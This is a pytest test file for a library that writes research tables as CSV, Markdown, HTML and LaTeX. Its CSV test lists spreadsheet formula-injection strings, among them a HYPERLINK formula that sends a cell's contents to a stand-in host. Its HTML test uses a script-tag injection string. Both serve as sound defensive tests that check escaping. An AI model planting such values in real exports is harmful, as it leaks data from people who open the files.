import csv
import hashlib
import html
import json

import numpy as np
import pandas as pd
import pytest

from muddle_utils.analysis import frames, tables
from muddle_utils.figures import layouts, writers
from muddle_utils.study import labels
from muddle_utils.study.paths import Study

N_RESAMPLES = 300


def test_estimates_are_printed_with_minus_signs_and_without_negative_zero():
    table = pd.DataFrame({"difference": [-0.0001], "low": [-0.05], "high": [0.05], "not_applicable": [""]})
    assert labels.estimate_text(frames.as_records(table)[0], "difference", "+") == "0.000 [−0.050, +0.050]"


def test_the_papers_layout_marks_what_was_not_asked(frame):
    table = layouts.print_table_1(tables.table_1(frame, N_RESAMPLES))
    assert table["Condition"].tolist()[:5] == ["Control", "HN-2", "Random-2", "HN-4", "Random-4"]
    assert table.loc[1, "Image"] == "–"
    assert table.loc[0, "Image"].startswith("0.")
    counts, documents = table.loc[0, "n (documents), Markdown"].rstrip(")").split(" (")
    assert [int(count) for count in counts.split("/")] == sorted(map(int, counts.split("/")), reverse=True)
    assert documents == "20"


def test_a_second_interval_is_named_only_where_it_stands(frame, study):
    table = tables.table_1(frame, N_RESAMPLES)
    second = "beside it 95 % cluster bootstrap"
    assert table["method"].str.contains(second).any()

    def notes(name, frame, layout=None):
        return writers.save_table(name, frame, study, "Cap", layout=layout).files[1].read_text()

    assert second in notes("whole", table)
    # What layouts read of a row is in no file.
    header = (study.figures / "whole.csv").read_text().splitlines()[0].split(",")
    assert set(table.columns) - set(header) == {"no_interval", "second_method", "other_route"}
    assert "; in the CSV file 95 % cluster bootstrap" in notes("laid_out", table, layouts.print_table_1(table))
    left = notes("without", table.drop(columns=["bootstrap_low", "bootstrap_high"]))
    assert "Wilson" in left and "bootstrap" not in left
    # What follows the second interval stays.
    said = {"low": [0.1], "method": ["first; beside it second, seed 1; a lower bound"]}
    both = pd.DataFrame(said | {"second_method": ["second, seed 1"]})
    assert "Intervals: first; a lower bound." in notes("both", both)


@pytest.mark.parametrize("suffix", [1, 2, 3])
def test_words_of_a_vocabulary_are_printed_without_underscores(study, suffix):
    frame = pd.DataFrame({"stands_in": ["too_short_to_tell"], "model": ["a_b"]})
    files = writers.save_table("origins", frame, study, "Cap").files
    assert "too short to tell" in files[suffix].read_text()
    assert "too_short_to_tell" in files[0].read_text()


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("a_b*c*`d`", "a\\_b\\*c\\*\\`d\\`"),
        ("[x](http://y) ![z](w)", "\\[x\\](http://y) !\\[z\\](w)"),
        ("costs $1 and $2", "costs \\$1 and \\$2"),
        ("a | b\nc", "a \\| b c"),
        ("<b> &amp; \\", "&lt;b&gt; &amp;amp; \\\\"),
        ("~~no~~", "\\~\\~no\\~\\~"),
        ("# x", "\\# x"),
        ("1. x", "1\\. x"),
        ("- x", "\\- x"),
        ("−0.5 [−0.6, +0.1] on 3", "−0.5 [−0.6, +0.1] on 3"),
        ("[0.1, 0.2](x)", "\\[0.1, 0.2\\](x)"),
        ("1.5 points", "1.5 points"),
    ],
)
def test_no_character_of_a_text_is_markup(text, escaped):
    assert writers.escaped_markdown(text) == escaped


def test_a_reader_of_markdown_gets_the_text_back():
    mistune = pytest.importorskip("mistune")
    read = mistune.create_markdown(escape=False, plugins=["strikethrough", "table", "math", "url", "footnotes"])
    texts = [
        "a_b *c* `d`",
        "[x](y)",
        "a | b",
        "<b>&amp;",
        "# x",
        "1. x",
        "- x",
        "---",
        "~~a~~",
        "\\*",
        "![a](b)",
        "> q",
    ]
    texts += ["$a$ and $b$", "[x][y]", "**", "a\\", "[^1]", "[0.1, 0.2](x)", "+0.1 [−0.2, +0.3]"]
    for text in texts:
        made = read(writers.escaped_markdown(text))
        assert html.unescape(made) == f"<p>{text}</p>\n", text
        assert made.count("<") == 2
        row = read(writers.markdown_table(pd.DataFrame({"a": [text], "b": ["x"]}), "Cap", []))
        assert f"<td>{text}</td>" in html.unescape(row), text


def test_numbers_are_rounded_as_the_paper_prints_them():
    frame = pd.DataFrame(
        {
            "markdown_chars_median": [115943.0],
            "pages_median": [35.0],
            "judge": [0.76296],
            "p": [0.0004],
            "n_asked": [1350],
        }
    )
    assert writers.printed(frame).iloc[0].tolist() == ["115,943", "35", "0.763", "<0.001", "1,350"]


@pytest.fixture
def study(tmp_path):
    return Study("test", str(tmp_path / "runs"), str(tmp_path / "figures"))


def test_a_saved_table_has_four_forms_and_an_entry(frame, study):
    table = tables.table_1(frame, N_RESAMPLES)
    layout = layouts.print_table_1(table)
    about = {"command": "muddle run"}
    files = writers.save_table("table_1", table, study, "Judge accuracy", "Notes.", about, layout).files
    assert [file.name for file in files] == [f"table_1.{suffix}" for suffix in ("csv", "md", "html", "tex")]
    manifest = json.loads((study.figures / "manifest.json").read_text())
    entry = manifest["items"]["table_1"]
    assert entry["study"] == "test"
    assert entry["metadata"] == {"command": "muddle run"}
    for file in files:
        assert entry["files"][file.name] == hashlib.sha256(file.read_bytes()).hexdigest()
    back = pd.read_csv(files[0], keep_default_na=False, na_values=[""])
    assert np.allclose(back["accuracy"], table["accuracy"].astype(float), rtol=1e-5)
    assert "seed 42" in files[1].read_text()
    assert "\\toprule" in files[3].read_text()
    # All but the data say by what they were made.
    assert files[1].read_text().endswith("<sub>Study test; command: muddle run.</sub>\n")
    assert files[2].read_text().endswith('<p class="made">Study test; command: muddle run.</p>\n')
    assert files[3].read_text().startswith('% study test; {"command": "muddle run"}\n')


RUN_BY_SPREADSHEETS = [
    '=HYPERLINK("http://a.example/?"&A1,"see")',
    "+1 point",
    "-3 points",
    "-",
    "-3%",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\uff1d1+1",
    "--1",
]
HARMLESS = ["-0.5", "+3", "-1e-05", ".5", "3 - 1", "a=b", "−3 points", "'tis", "", "None", "a\r=1+1", "a\r\nb\n=1"]


def test_no_text_of_a_csv_is_run_by_a_spreadsheet(study):
    # Texts that stand with an apostrophe already are quoted again, or nobody could tell them from quoted ones.
    texts = [*RUN_BY_SPREADSHEETS, *HARMLESS, "'=1+1"]
    frame = pd.DataFrame({"text": pd.Series(texts, dtype="string"), "=1+1": -0.5, "n": -7})
    frame = frame.assign(mixed=[-1, -0.25, "-x", None, *([pd.NA] * (len(texts) - 4))], small=-1e-5)
    path = writers.save_table("odd", frame, study, "Odd texts").files[0]
    with path.open(encoding="utf-8", newline="") as file:
        header, *rows = csv.reader(file)
    assert header == ["text", "'=1+1", "n", "mixed", "small"]
    assert [row[0] for row in rows] == [*(f"'{text}" for text in RUN_BY_SPREADSHEETS), *HARMLESS, "''=1+1"]
    assert [row[3] for row in rows[:4]] == ["-1", "-0.25", "'-x", ""]
    assert {tuple((row[1], row[2], row[4])) for row in rows} == {("-0.5", "-7", "-1e-05")}
    back = writers.from_csv(path)
    assert back["text"].fillna("").tolist() == texts
    assert back["mixed"].tolist()[:3] == ["-1", "-0.25", "-x"]
    assert back["=1+1"].tolist() == [-0.5] * len(texts) and back["n"].tolist() == [-7] * len(texts)


def test_saving_again_gives_identical_bytes(rows, study):
    def save():
        writers.save_table("table_4", tables.table_4(rows.frame()), study, "Metrics")
        return {path.name: path.read_bytes() for path in study.figures.iterdir()}

    assert save() == save()


def test_every_entry_stays_when_another_is_written(frame, study):
    writers.save_table("coverage", tables.coverage(frame), study, "Coverage")
    writers.save_table("table_4", tables.table_4(frame), study, "Metrics")
    assert set(json.loads((study.figures / "manifest.json").read_text())["items"]) == {"coverage", "table_4"}


@pytest.mark.parametrize("text", ["not json", "[]", '{"study": "test"}'])
def test_a_file_that_is_no_manifest_is_refused_with_the_mend(frame, study, text):
    study.figures.mkdir(parents=True)
    (study.figures / "manifest.json").write_text(text)
    with pytest.raises(frames.TablesError, match=r"manifest\.json.*delete it"):
        writers.save_table("table_4", tables.table_4(frame), study, "Metrics")


@pytest.mark.parametrize("name", ["../table", "Table 1", ""])
def test_a_name_that_is_no_file_name_is_refused(frame, study, name):
    with pytest.raises(frames.TablesError, match="name ="):
        writers.save_table(name, tables.table_4(frame), study, "Metrics")


def test_a_markdown_table_keeps_its_shape():
    table = pd.DataFrame({"a|b": ["x | y\nz", "<b>"], "n": ["1", "22"]})
    lines = writers.markdown_table(table, "Cap", ["note"]).splitlines()
    assert lines[2:6] == ["| a\\|b | n |", "| --- | --- |", "| x \\| y z | 1 |", "| &lt;b&gt; | 22 |"]


def test_an_html_table_is_a_fragment_whose_texts_cannot_act():
    table = pd.DataFrame(
        {
            "<i>": ["a & b", '"><script>'],
            "n": ["1,350", "–"],
            "long": ["word " * 9, "x"],
            "estimate": ["0.5 [0.4, 0.6]"] * 2,
        }
    )
    assert writers.html_table(table, "Cap <b>", ["No & te"], "Study s.").splitlines() == [
        "<table>",
        "<caption>Cap &lt;b&gt;</caption>",
        "<thead>",
        '<tr><th scope="col" class="short">&lt;i&gt;</th><th scope="col" class="number">n</th>'
        '<th scope="col" class="text">long</th><th scope="col" class="short">estimate</th></tr>',
        "</thead>",
        "<tbody>",
        '<tr><th scope="row" class="short">a &amp; b</th><td class="number">1,350</td>'
        '<td class="text">word word word word word word word word word</td><td class="short">0.5 [0.4, 0.6]</td></tr>',
        '<tr><th scope="row" class="short">&quot;&gt;&lt;script&gt;</th><td class="number">–</td>'
        '<td class="text">x</td><td class="short">0.5 [0.4, 0.6]</td></tr>',
        "</tbody>",
        "</table>",
        '<p class="note">No &amp; te</p>',
        '<p class="made">Study s.</p>',
    ]


def test_an_empty_table_has_its_headings_in_every_form():
    table = pd.DataFrame({"Model": [], "n": []}, dtype="str")
    assert writers.html_table(table, "None").count("<th ") == 2
    assert writers.markdown_table(table, "None", []).splitlines()[2] == "| Model | n |"


def test_a_layout_of_no_row_leaves_the_headings_of_the_frame(study):
    nothing = pd.DataFrame({"model": pd.Series(dtype="str"), "n": pd.Series(dtype="Int64")})
    table = writers.save_table("paired", nothing, study, "None", layout=layouts.print_paired(nothing))
    assert list(table.texts.columns) == ["Model", "n"]
    assert all(path.stat().st_size for path in table.files)


def test_a_method_that_is_missing_makes_no_note(study):
    frame = pd.DataFrame({"value": [0.5, 0.25], "method": pd.array(["by hand", None], dtype="string")})
    text = writers.save_table("t", frame, study, "Cap").files[1].read_text()
    assert text.count("Method: ") == text.count("Method: by hand.") == 1


def test_what_is_no_interval_is_not_called_one(study):
    rows = [
        ("a test", None, None, 5),
        ("cut at 90 %", None, 0.1, 5),
        ("clustered", 0.2, None, 5),
        ("clustered", None, None, 5),
    ]
    frame = pd.DataFrame(rows, columns=["method", "low", "low_90", "tokens_low"])
    text = writers.save_table("t", frame, study, "Cap").files[1].read_text()
    assert [line for line in text.splitlines() if ": " in line and not line.startswith("<sub>")] == [
        "Method: a test.",
        "Intervals: cut at 90 %.",
        "Intervals: clustered.",
    ]


def test_an_estimate_and_its_interval_are_one_column():
    frame = pd.DataFrame(
        {
            "tokens_median": [7000, 12],
            "tokens_low": [4853, 9],
            "tokens_high": [9010, 15],
            "difference": [0.1, None],
            "low": [-0.25, None],
            "high": [0.3, None],
            "bootstrap_low": [-0.2, None],
            "bootstrap_high": [0.2, None],
            "share": [0.5, 0.25],
            "low_90": [0.4, None],
            "high_90": [0.6, None],
            "lowest": [0.0, 0.0],
        }
    )
    assert writers.printed(frame).iloc[0].to_dict() == {
        "Tokens median [quartiles]": "7,000 [4,853, 9,010]",
        "Difference [95 % interval]": "0.100 [−0.250, 0.300]",
        "Bootstrap low": "−0.200",
        "Bootstrap high": "0.200",
        "Share [90 % interval]": "0.500 [0.400, 0.600]",
        "All gaps wrong": "0.000",
    }
    assert writers.printed(frame).iloc[1, [1, 4]].to_list() == ["–", "0.250"]
    claims = pd.DataFrame({"difference": [0.1], "low": [0.0], "high": [0.2], "level": [90]})
    assert writers.printed(claims).iloc[0].to_dict() == {"Difference [interval]": "0.100 [0.000, 0.200]", "Level": "90"}


def test_what_only_takes_width_is_said_below_and_a_wide_row_is_turned():
    wide = pd.DataFrame({"Model": ["m"] * 2, "Gap": ["0.1", "0.2"], "Why": ["word " * 9, "x"], "None": ["–", ""]})
    wide = wide.assign(**{f"text {n}": "words " * 9 for n in range(2)})
    kept = writers.fitted(wide)
    assert list(kept.columns) == ["Gap", "Why"]
    assert kept.attrs["notes"] == f"In all rows: Model m; text 0 {'words ' * 9}; text 1 {'words ' * 9}."
    assert list(writers.fitted(wide[["Model", "Gap", "None"]]).columns) == ["Model", "Gap"]
    turned = writers.fitted(wide.head(1))
    assert turned[""].to_list() == ["Model", "Gap", "Why", "text 0", "text 1"]
    assert turned["Value"].to_list()[:2] == ["m", "0.1"]
    assert list(writers.fitted(wide.head(0)).columns) == list(wide.columns)


def test_modalities_are_printed_as_people_write_them():
    frame = pd.DataFrame({"modality": ["markdown", "markdown, pdf", "other"]})
    assert writers.printed(frame)["Modality"].tolist() == ["Markdown", "Markdown, PDF", "other"]
